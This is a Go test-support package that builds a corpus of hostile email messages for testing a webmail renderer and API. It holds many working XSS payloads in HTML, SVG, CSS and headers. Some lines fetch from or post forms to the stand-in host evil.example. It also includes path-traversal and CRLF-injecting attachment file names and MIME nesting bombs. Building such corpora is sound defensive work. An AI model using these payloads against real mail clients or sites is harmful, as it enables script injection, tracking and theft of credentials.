// Package hostile is test support: a corpus of hostile messages for the
// webmail's renderer, API and browser tests. Every script in it announces
// itself (console.log, alert, document.title, or a request to the
// non-local host evil.example), so a test that sees none of those signs and
// no request to a non-local host has shown that none ran.
package hostile

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strconv"
	"strings"
)

// Marker is what every payload writes where a test can see it.
const Marker = "XSS-RAN"

// Evil is the non-local host payloads try to reach.
const Evil = "evil.example"

// Message is one hostile message.
type Message struct {
	Name string
	Raw  []byte
}

// payload runs Marker every way a script can.
const payload = `console.log('` + Marker + `');document.title='` + Marker + `';alert('` + Marker + `');` +
	`fetch('http://` + Evil + `/js')`

var htmlBodies = map[string]string{
	"script": `<p>hi</p><script>` + payload + `</script><SCRIPT SRC=http://` + Evil + `/x.js></SCRIPT>`,
	"event-handlers": `<img src=x onerror="` + payload + `"><body onload="` + payload + `"><div onmouseover="` + payload + `">hover</div>` +
		`<input autofocus onfocus="` + payload + `"><details open ontoggle="` + payload + `">d</details>`,
	"svg":           `<svg onload="` + payload + `"><script>` + payload + `</script><image href="http://` + Evil + `/svg.png"/></svg>`,
	"urls":          `<a href="javascript:` + payload + `">js</a><a href="jav&#x09;ascript:` + payload + `">tab</a>` + `<a href="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte("<script>"+payload+"</script>")) + `">data</a>` + `<a href="vbscript:msgbox(1)">vb</a><img src="javascript:` + payload + `">`,
	"css":           `<style>@import url(http://` + Evil + `/x.css); body{background:url(http://` + Evil + `/bg.png)}</style>` + `<div style="background-image:url(http://` + Evil + `/div.png);width:expression(alert(1))">css</div>` + `<link rel=stylesheet href="http://` + Evil + `/l.css">`,
	"meta-refresh":  `<meta http-equiv="refresh" content="0;url=http://` + Evil + `/refresh"><meta http-equiv="refresh" content="0;url=javascript:` + payload + `">`,
	"forms":         `<form action="http://` + Evil + `/post" method=post><input name=p type=password><button formaction="javascript:` + payload + `">go</button></form>`,
	"frames":        `<iframe src="http://` + Evil + `/frame"></iframe><iframe srcdoc="<script>` + payload + `</script>"></iframe>` + `<object data="http://` + Evil + `/o.swf"></object><embed src="http://` + Evil + `/e.swf"><base href="http://` + Evil + `/">`,
	"malformed":     `<scr<script>ipt>` + payload + `</scr</script>ipt><img """><script>` + payload + `</script>"><!--<script>` + payload + `</script>--!><script>` + payload + `</script><img src=x:alert(1) onerror=` + payload + `//`,
	"remote-image":  `<p>tracker</p><img src="http://` + Evil + `/track.png" width=1 height=1><img srcset="http://` + Evil + `/set.png 1x">`,
	"math-noscript": `<math><mtext><table><mglyph><style><img src=x onerror="` + payload + `">` + `<noscript><p title="</noscript><img src=x onerror=` + payload + `>">`,
}

// Messages returns the corpus: hostile HTML bodies, headers, file names,
// attachments, an attached message, and bytes that are not MIME at all.
func Messages() []Message {
	var out []Message
	for _, name := range sortedKeys(htmlBodies) {
		out = append(out, Message{Name: "html-" + name, Raw: mail("HTML "+name, "text/html; charset=utf-8", htmlBodies[name])})
	}
	out = append(out,
		Message{Name: "headers", Raw: crlf(`From: "<img src=x onerror=alert(1)>" <a@example.com>
To: <script>` + payload + `</script>@example.com
Subject: =?utf-8?b?` + base64.StdEncoding.EncodeToString([]byte("<script>"+payload+"</script>\r\nX-Injected: 1")) + `?=
Date: <b>not a date</b>
Message-ID: <"><script>alert(1)</script>@x>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

<script>` + payload + `</script> in a text body
`)},
		Message{Name: "attachments", Raw: attachments()},
		Message{Name: "attached-message", Raw: attachedMessage()},
		// Not MIME at all: no header, a first line no parser accepts, a
		// script and bytes that are not UTF-8.
		Message{Name: "not-mime", Raw: []byte("\x7fno header at all <script>" + payload + "</script>\r\n" +
			"caf\xe9 \xff\xfe and a line: that looks like a header\r\n\r\nbody\r\n")},
		// Multiparts nested 40 and 300 deep, never closed: the first took
		// the parser longer than anyone waits, doubling with each level.
		Message{Name: "nesting-bomb-40", Raw: nestingBomb(40)},
		Message{Name: "nesting-bomb-300", Raw: nestingBomb(300)},
	)
	return out
}

// nestingBomb is a message of depth multiparts one in the other, none
// closed, around a script.
func nestingBomb(depth int) []byte {
	var b strings.Builder
	b.WriteString("From: bomb@example.com\r\nSubject: nested " + strconv.Itoa(depth) + " deep\r\nMIME-Version: 1.0\r\n")
	for i := range depth {
		fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=\"n%d\"\r\n\r\n--n%d\r\n", i, i)
	}
	b.WriteString("Content-Type: text/html\r\n\r\n<script>" + payload + "</script>\r\n")
	return []byte(b.String())
}

func sortedKeys(m map[string]string) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}

func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

func mail(subject, ctype, body string) []byte {
	return crlf(fmt.Sprintf("From: Mallory <mallory@%s>\nTo: victim@example.com\nSubject: %s\n"+
		"Date: Mon, 23 Nov 2026 10:00:00 +0100\nMessage-ID: <%s@evil>\nMIME-Version: 1.0\n"+
		"Content-Type: %s\n\n%s\n", Evil, subject, strings.ReplaceAll(subject, " ", "-"), ctype, body))
}

func attachments() []byte {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="` + payload + `"><script>` + payload + `</script></svg>`
	return crlf(`From: Mallory <mallory@` + Evil + `>
To: victim@example.com
Subject: Hostile attachments
Date: Mon, 23 Nov 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="B"

--B
Content-Type: text/html; charset=utf-8

<p>See <img src="cid:evil-svg"> and the files.</p>
--B
Content-Type: image/svg+xml
Content-ID: <evil-svg>
Content-Disposition: inline; filename="x.svg"
Content-Transfer-Encoding: base64

` + b64(svg) + `
--B
Content-Type: text/html; name="../../<img src=x onerror=alert(1)>.html"
Content-Disposition: attachment; filename="../../<img src=x onerror=alert(1)>.html"
Content-Transfer-Encoding: base64

` + b64("<script>"+payload+"</script>") + `
--B
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=utf-8''evil%0D%0ASet-Cookie%3A%20a%3Db%22.exe

MZ
--B--
`)
}

func attachedMessage() []byte {
	inner := string(mail("Inner hostile", "text/html; charset=utf-8", `<script>`+payload+`</script><img src=x onerror="`+payload+`">inner`))
	head := crlf(`From: Mallory <mallory@` + Evil + `>
To: victim@example.com
Subject: Forwarded hostile
Date: Mon, 23 Nov 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="F"

--F
Content-Type: text/plain

Forwarded.
--F
Content-Type: message/rfc822
Content-Disposition: attachment; filename="fwd.eml"

`)
	return append(append(head, inner...), crlf("\n--F--\n")...)
}
